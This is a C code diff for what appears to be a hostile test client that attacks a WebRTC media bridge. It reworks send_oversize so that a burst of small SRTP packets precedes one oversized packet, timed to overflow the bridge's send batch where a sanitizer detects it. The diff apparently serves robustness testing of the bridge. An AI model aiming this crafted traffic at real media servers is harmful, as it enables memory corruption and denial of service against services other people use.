@@ -2,6 +2,7 @@
  * signalling and media threads (load_hooks), run on the media thread once
  * SRTP is up and while g_stats.attacking is set. */
 #include <inttypes.h>
+#include <sys/uio.h>
 #include <string.h>
 
 #include "hostile.h"
@@ -16,6 +17,9 @@
 #define MAX_VIDEO_STREAMS 16
 #define NACK_SPAN 1500                   /* packets named by one NACK compound */
 #define NACK_PER_PACKET 125
+/* Small packets before each big one: with three receivers, 114 of the 128
+ * slots of the bridge's send batch. */
+#define OVERSIZE_LEAD 38
 #define FLOOD_PAYLOAD 100
 
 /* The video streams forwarded to us: which numbers arrived (a second copy of
@@ -154,18 +158,36 @@ static void rtp_header_write(uint8_t *buf, uint8_t pt, uint16_t seq, uint32_t ts
     be32_write(buf + 8, ssrc);
 }
 
-/* One authenticated packet far larger than any MTU: only ICE-TCP carries it. */
+/* One authenticated packet far larger than any MTU: only ICE-TCP carries
+ * it. It follows, in the same write, small packets of the same microphone,
+ * so that the bridge, forwarding them to the room's receivers over UDP, has
+ * filled most of its send batch when it reads the big one: a copy of that
+ * into a batch slot would then run past the batch, where a sanitizer sees it. */
 static void send_oversize(pc *c)
 {
-    static uint8_t buf[65535];
+    static uint8_t big[65535], small[OVERSIZE_LEAD][12 + FLOOD_PAYLOAD + STOA_SRTP_MAX_TRAILER];
     static uint16_t seq;
-    size_t len = (size_t)g_opts.size;
-    if (len < 12 || len + STOA_SRTP_MAX_TRAILER > sizeof buf)
+    struct iovec pkts[OVERSIZE_LEAD + 1];
+    size_t len = (size_t)g_opts.size, n = 0;
+    if (len < 12 || len + STOA_SRTP_MAX_TRAILER > sizeof big)
         return;
-    rtp_header_write(buf, SDP_PT_OPUS, seq, (uint32_t)seq * 960, c->p->audio_ssrc);
+    for (int i = 0; i < OVERSIZE_LEAD; i++) {
+        size_t small_len = 12 + FLOOD_PAYLOAD;
+        rtp_header_write(small[i], SDP_PT_OPUS, seq, (uint32_t)seq * 960, c->p->audio_ssrc);
+        seq++;
+        memset(small[i] + 12, 0, FLOOD_PAYLOAD);
+        if (stoa_srtp_protect_rtp(&c->srtp, small[i], &small_len, sizeof small[i]) == 0)
+            pkts[n++] = (struct iovec){ small[i], small_len };
+    }
+    rtp_header_write(big, SDP_PT_OPUS, seq, (uint32_t)seq * 960, c->p->audio_ssrc);
     seq++;
-    memset(buf + 12, 0xA5, len - 12);
-    send_rtp(c, buf, len, sizeof buf);
+    memset(big + 12, 0xA5, len - 12);
+    if (stoa_srtp_protect_rtp(&c->srtp, big, &len, sizeof big) < 0)
+        return;
+    pkts[n++] = (struct iovec){ big, len };
+    pc_send_packets(c, pkts, n);
+    g_stats.sent++;
+    g_stats.sent_bytes += len;
 }
 
 /* Per camera, one compound of NACK packets naming NACK_SPAN packets in all:
